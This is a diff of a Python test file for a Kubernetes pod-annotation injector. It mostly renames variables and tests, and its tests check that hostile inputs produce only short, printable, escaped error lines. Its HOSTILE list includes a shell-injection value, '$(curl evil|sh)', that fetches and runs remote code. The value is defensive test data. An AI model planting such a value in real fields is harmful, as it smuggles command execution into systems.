@@ -1,4 +1,4 @@
-"""Texts that want to be more than texts: no refusal, warning or mark lets them."""
+"""Hostile texts are harmless in errors, warnings and the injection record."""
 
 import json
 from typing import Any
@@ -14,7 +14,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 Object = dict[str, Any]
-POLICY = ClusterDefaults("0123456789", {})
+DEFAULTS = ClusterDefaults("0123456789", {})
 
 HOSTILE = [
     pytest.param("$(curl evil|sh)", id="shell"),
@@ -44,23 +44,20 @@ HOSTILE = [
 
 
 def line_of(given: Object) -> str:
-    """What is said of a pod, a note or a workload: nothing but printable ASCII, of bounded length.
-
-    Nothing where it is not refused.
-    """
-    said = []
-    for function in (lambda: inject(given, POLICY), lambda: uninject(given)):
+    """The first error or warning about a pod, or an empty text; checks that all are harmless."""
+    lines: list[str] = []
+    for function in (lambda: inject(given, DEFAULTS), lambda: uninject(given)):
         try:
             result = function()
-        except InjectionError as refusal:
-            said.append(str(refusal))
+        except InjectionError as error:
+            lines.append(str(error))
         else:
-            said += getattr(result, "warnings", ())
-    for line in said:
+            lines += getattr(result, "warnings", ())
+    for line in lines:
         assert line.isascii()
         assert line.isprintable()
         assert len(line) < 1500
-    return said[0] if said else ""
+    return lines[0] if lines else ""
 
 
 def pod(annotations: Object, **container: Any) -> Object:
@@ -71,7 +68,7 @@ def pod(annotations: Object, **container: Any) -> Object:
 
 @pytest.mark.parametrize("entry", TABLE, ids=lambda entry: entry.name)
 @pytest.mark.parametrize("text", HOSTILE)
-def test_as_a_value_it_is_refused(text: str, entry: Any) -> None:
+def test_rejects_it_as_a_value(text: str, entry: Any) -> None:
     given = pod({entry.key: text})
     if entry.name in ("container", "sidecars") and text == "x":
         return
@@ -80,18 +77,18 @@ def test_as_a_value_it_is_refused(text: str, entry: Any) -> None:
 
 
 @pytest.mark.parametrize("text", HOSTILE)
-def test_as_a_key_it_is_refused(text: str) -> None:
+def test_rejects_it_as_a_key(text: str) -> None:
     assert line_of(pod({f"asya.sh/{text}": "1"})).endswith(" (AnnotationUnknown)")
 
 
 @pytest.mark.parametrize("text", HOSTILE)
-def test_as_a_note_of_ours_it_is_refused_or_not_believed(text: str) -> None:
+def test_rejects_it_as_an_annotation_of_the_injector(text: str) -> None:
     assert line_of(pod({"asya.sh/inherited": text})).startswith("asya.sh/inherited: ")
     assert line_of(pod({"asya.sh/injected": text})).startswith("asya.sh/injected: ")
 
 
 @pytest.mark.parametrize("text", HOSTILE)
-def test_as_a_name_in_the_pod_it_is_said_harmlessly(text: str) -> None:
+def test_quotes_it_as_a_name_in_the_pod(text: str) -> None:
     mount = {"name": text, "mountPath": "/opt/asya"}
     variable = {"name": "ASYA_HANDLER", "value": text}
     assert line_of(pod({"asya.sh/container": "other"}, name=text))
@@ -104,7 +101,7 @@ def test_as_a_name_in_the_pod_it_is_said_harmlessly(text: str) -> None:
 
 
 @pytest.mark.parametrize("text", HOSTILE)
-def test_as_an_annotation_of_a_workload_it_is_said_harmlessly(text: str) -> None:
+def test_quotes_it_as_an_annotation_of_a_workload(text: str) -> None:
     template = pod({"asya.sh/mode": text, f"asya.sh/{text}": "1"})
     workload = {
         "metadata": {"annotations": {"asya.sh/mode": "x" + text, f"asya.sh/{text}": text}},
@@ -117,7 +114,7 @@ def test_as_an_annotation_of_a_workload_it_is_said_harmlessly(text: str) -> None
     assert line_of(propagate(workload)["spec"]["template"])
 
 
-def test_a_refusal_stays_short_however_many_containers_there_are() -> None:
+def test_an_error_stays_short_with_many_containers() -> None:
     given = pod({"asya.sh/container": "zzz"})
     given["spec"]["containers"] = [{"name": f"{i:03}-" + "c" * 59} for i in range(500)]
     line = line_of(given)
@@ -127,7 +124,7 @@ def test_a_refusal_stays_short_however_many_containers_there_are() -> None:
     assert "and 489 more" in line_of(given)
 
 
-def test_quotes_cut_and_escape() -> None:
+def test_quote_cuts_and_escapes() -> None:
     assert quote('a"\x1b\x7f\u202e') == '"a\\"\\u001b\\u007f\\u202e"'
     assert len(quote("\x1b" * 10_000)) < 650
     assert quote(1) == '"int"'
@@ -137,19 +134,17 @@ def test_quotes_cut_and_escape() -> None:
 
 @settings(max_examples=60, deadline=None)
 @given(st.text(), st.text(), st.sampled_from(TABLE))
-def test_whatever_the_texts_the_line_is_one_printable_line(
-    text: str, other: str, entry: Any
-) -> None:
+def test_each_line_is_printable_with_any_texts(text: str, other: str, entry: Any) -> None:
     line_of(pod({entry.key: text, f"asya.sh/{other}": text}))
     line_of(pod({entry.key: text}, name=other, volumeMounts=[{"name": other, "mountPath": text}]))
     line_of(pod({"asya.sh/injected": text}, env=[{"name": "ASYA_HANDLER", "value": text}]))
 
 
-def test_the_mark_is_ascii_whatever_was_in_the_pod() -> None:
+def test_the_record_is_ascii_with_any_name() -> None:
     given = pod({}, env=[{"name": "ASYA_JSON", "value": "auto"}], name="\x1b\u202e")
-    result = inject(given, POLICY)
+    result = inject(given, DEFAULTS)
     assert result is not None
-    mark = result.pod["metadata"]["annotations"]["asya.sh/injected"]
-    assert mark.isascii()
-    assert mark.isprintable()
-    assert json.loads(mark)["container"] == "\x1b\u202e"
+    record = result.pod["metadata"]["annotations"]["asya.sh/injected"]
+    assert record.isascii()
+    assert record.isprintable()
+    assert json.loads(record)["container"] == "\x1b\u202e"
